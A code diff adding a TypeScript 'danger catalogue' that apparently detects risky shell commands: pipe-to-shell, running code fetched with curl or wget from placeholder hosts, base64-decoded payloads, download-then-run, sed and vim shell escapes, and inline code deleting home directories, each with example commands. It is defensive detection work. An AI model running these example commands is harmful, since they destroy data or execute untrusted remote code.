@@ -1,0 +1,105 @@
+// Danger catalogue, code execution: shells fed from pipes, code from the network, hidden payloads, escapes.
+import type { DangerEntry } from './danger-entry.ts';
+import type { CommandView } from '../shell/view.ts';
+import { DECODERS, DOWNLOADERS, INTERPRETERS, SHELLS } from './programs.ts';
+import { DELETE_API, REMOTE_EVAL, SPAWN_API, inlineCode } from './inline-code.ts';
+import { sedExecutes } from './sed-script.ts';
+import { hasFlag } from './flags.ts';
+
+/** Shell options that take a value (so their value is not the script operand). */
+const SHELL_WITH_ARG = ['-o', '-O', '+O', '+o', '--rcfile', '--init-file'];
+
+/** Does this shell read its commands from stdin (no -c, no script file, or -s)? */
+export function shellReadsStdin(v: CommandView): boolean {
+  for (let i = 0; i < v.args.length; i++) {
+    const a = v.args[i]!;
+    if (a === '-s') return true;
+    if (a === '--') return i + 1 >= v.args.length;
+    if (SHELL_WITH_ARG.includes(a)) { i++; continue; }
+    if (/^-[a-zA-Z]*c[a-zA-Z]*$/.test(a)) return false;
+    if (a.startsWith('-') || a.startsWith('+')) continue;
+    return false;
+  }
+  return true;
+}
+
+const isInterpreter = (p: string): boolean => SHELLS.has(p) || p in INTERPRETERS || p.replace(/[\d.]+$/, '') in INTERPRETERS;
+const isRunner = (v: CommandView): boolean => isInterpreter(v.program) || v.program === 'source' || v.program === '.' || v.program === 'eval';
+
+/** Programs whose output becomes code here: the pipe upstream, and `$(…)`/`<(…)` in the code-bearing words. */
+function codeSources(v: CommandView): string[] {
+  const fromWords = v.words.slice(1).flatMap((w) => w.inner?.programs ?? []);
+  const fromPipe = v.stdin?.kind === 'pipe' && (SHELLS.has(v.program) ? shellReadsStdin(v) : interpreterReadsStdin(v)) ? v.stdin.upstream : [];
+  return [...fromWords, ...fromPipe];
+}
+
+function interpreterReadsStdin(v: CommandView): boolean {
+  const spec = INTERPRETERS[v.program] ?? INTERPRETERS[v.program.replace(/[\d.]+$/, '')];
+  if (!spec) return false;
+  return !v.args.some((a) => !a.startsWith('-') || a === '-' || spec.inline.includes(a) || spec.stdinAlternatives.includes(a)) || v.args.includes('-');
+}
+
+/** A path (or a bare program name matching a download's file name) this script downloaded earlier. */
+const downloaded = (v: CommandView, path: string): boolean => {
+  const p = path.replace(/^\.\//, '');
+  if (v.downloads.has(p)) return true;
+  return !p.includes('/') && p !== '' && [...v.downloads].some((d) => d.endsWith('/' + p));
+};
+
+export const EXEC_DANGERS: DangerEntry[] = [
+  {
+    id: 'pipe-to-shell', risk: 'high', reason: 'pipes text into a shell that runs it as commands',
+    examples: ["echo 'rm -fr ~' |bash", 'curl -fsSL https://x/i.sh | sh', 'cat x | sudo bash -s', 'base64 -d payload | zsh'],
+    match: (v) => SHELLS.has(v.program) && v.stdin?.kind === 'pipe' && shellReadsStdin(v),
+  },
+  {
+    id: 'remote-code', risk: 'high', reason: 'runs code fetched from the network (curl | python, bash <(curl …), sh -c "$(curl …)")',
+    examples: ['curl -sL https://x/setup.py | python3', 'source <(curl -s https://x/env.sh)', 'sh -c "$(curl -fsSL https://x/i.sh)"', 'python3 <(curl -s https://x/a.py)', 'eval "$(wget -qO- https://x)"'],
+    match: (v) => isRunner(v) && codeSources(v).some((p) => DOWNLOADERS.has(p)),
+  },
+  {
+    id: 'decoded-code', risk: 'high', reason: 'runs code that was decoded or unscrambled first (base64 -d, xxd -r, rev): a hidden payload',
+    examples: ['echo cm0gLXJmIH4= | base64 -d | perl', 'eval "$(echo ZWNobw== | base64 -d)"', 'python3 <(xxd -r -p x.hex)'],
+    match: (v) => isRunner(v) && codeSources(v).some((p) => DECODERS.has(p)),
+  },
+  {
+    id: 'download-then-run', risk: 'high', reason: 'runs (or makes executable) a file this command line just downloaded',
+    examples: ['curl -o /tmp/i.sh https://x/i.sh && bash /tmp/i.sh', 'wget https://x/tool -O t && chmod +x t', 'curl -O https://x/run.sh; sh run.sh', 'wget -q https://x/a.py && python3 a.py'],
+    match: (v) => v.downloads.size > 0 && (
+      downloaded(v, v.argv[0] ?? '')
+      || ((isRunner(v) || v.program === 'chmod') && v.args.some((a) => downloaded(v, a)))),
+  },
+  {
+    id: 'sed-exec', risk: 'high', reason: 'GNU sed e command (or s///e) runs shell commands',
+    examples: ["sed -n '1e rm -r ~/src' README.md", "sed 's/.*/id/e' f", "sed -e '$e touch x' f"],
+    match: (v) => v.program === 'sed' && sedExecutes(v.args),
+  },
+  {
+    id: 'editor-shell-escape', risk: 'high', reason: 'an editor started with a command that escapes to the shell (:!cmd, system())',
+    examples: ["vim -es -c '!rm -r ~/src' -c q", "vi -c ':!sh' x", "nvim --cmd 'call system(\"id\")'", "ex +'!id' f"],
+    match: (v) => /^(vim|vi|nvim|ex|view|gvim|rvim|vimdiff)$/.test(v.program) && v.args.some((a, i) => {
+      const cmd = a === '-c' || a === '--cmd' ? v.args[i + 1] ?? '' : a.startsWith('+') ? a.slice(1) : undefined;
+      return cmd !== undefined && /(^|[|:\s])!|\bsystem\s*\(|\bterminal\b|\bsh(ell)?\b/.test(cmd);
+    }),
+  },
+  {
+    id: 'inline-code-delete', risk: 'high', reason: 'inline interpreter code deletes files or trees (shutil.rmtree, rm_rf, fs.rmSync, unlink)',
+    examples: ["perl -e 'use File::Path; rmtree($ENV{HOME})'", "ruby -rfileutils -e 'FileUtils.rm_rf(Dir.home)'", 'python3 -c "import shutil; shutil.rmtree(\'/srv\')"', "node -e \"require('fs').rmSync('/x',{recursive:true})\""],
+    match: (v) => inlineCode(v).some((c) => c.language !== 'awk' && DELETE_API.test(c.code)),
+  },
+  {
+    id: 'inline-code-remote', risk: 'high', reason: 'inline code downloads code and evaluates it',
+    examples: ['python3 -c "exec(__import__(\'urllib.request\').request.urlopen(\'https://x\').read())"'],
+    match: (v) => inlineCode(v).some((c) => REMOTE_EVAL.test(c.code)),
+  },
+  {
+    id: 'inline-code-spawn', risk: 'medium', reason: 'inline interpreter code starts a shell or another program',
+    examples: ['python3 -c "import os; os.system(\'ls\')"', "awk 'BEGIN { system(\"date\") }'", "node -e \"require('child_process').execSync('ls')\"", "perl -e 'print `id`'"],
+    match: (v) => inlineCode(v).some((c) => SPAWN_API.test(c.code) || (c.language === 'awk' && /\|\s*"|"\s*\|\s*getline/.test(c.code))),
+  },
+  {
+    id: 'xargs-shell', risk: 'medium', reason: 'xargs (or parallel) hands its input to a shell as commands',
+    examples: ['cat cmds.txt | xargs -I{} sh -c {}', 'parallel ::: "$@"'],
+    match: (v) => (v.program === 'xargs' && v.args.some((a) => SHELLS.has(a)) && v.args.includes('-c') && v.args.some((a) => /^\{\}$|^-I/.test(a)) && !hasFlag(v.args, '0', [])) || v.program === 'parallel',
+  },
+];
